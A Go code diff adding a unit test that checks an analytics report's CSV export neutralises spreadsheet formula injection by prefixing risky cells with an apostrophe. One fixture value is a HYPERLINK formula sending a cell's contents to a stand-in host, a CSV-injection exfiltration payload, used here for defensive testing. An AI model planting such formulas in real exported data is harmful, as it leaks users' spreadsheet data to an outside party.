@@ -1,6 +1,8 @@
 package analytics
 
 import (
+	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 	"time"
@@ -129,6 +131,27 @@ func TestMinus(t *testing.T) {
 				t.Errorf("minus(%v, %v) = %v, want %v", c.a, c.b, got, c.want)
 				break
 			}
+		}
+	}
+}
+
+// A cell that a spreadsheet would read as a formula is written as text (doc/security.md).
+func TestCSVFormulaSafe(t *testing.T) {
+	r := Report{RoomID: "r1", SID: "RM_1", RoomTitle: "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", Users: []UserReport{
+		{UserID: "u1", Name: "+1 555"}, {UserID: "u2", Name: "-2"}, {UserID: "u3", Name: "@SUM(A1)"},
+		{UserID: "u4", Name: "\tx"}, {UserID: "u5", Name: "\rx"}, {UserID: "u6", Name: "Ann = Bob"},
+	}}
+	rows, err := csv.NewReader(bytes.NewReader(r.CSV())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]string{"u1": "'+1 555", "u2": "'-2", "u3": "'@SUM(A1)", "u4": "'\tx", "u5": "'\rx", "u6": "Ann = Bob"}
+	for _, row := range rows[1:] {
+		if row[2] != "'"+r.RoomTitle {
+			t.Errorf("room_title cell %q", row[2])
+		}
+		if row[4] != want[row[3]] {
+			t.Errorf("%s: name cell %q, want %q", row[3], row[4], want[row[3]])
 		}
 	}
 }
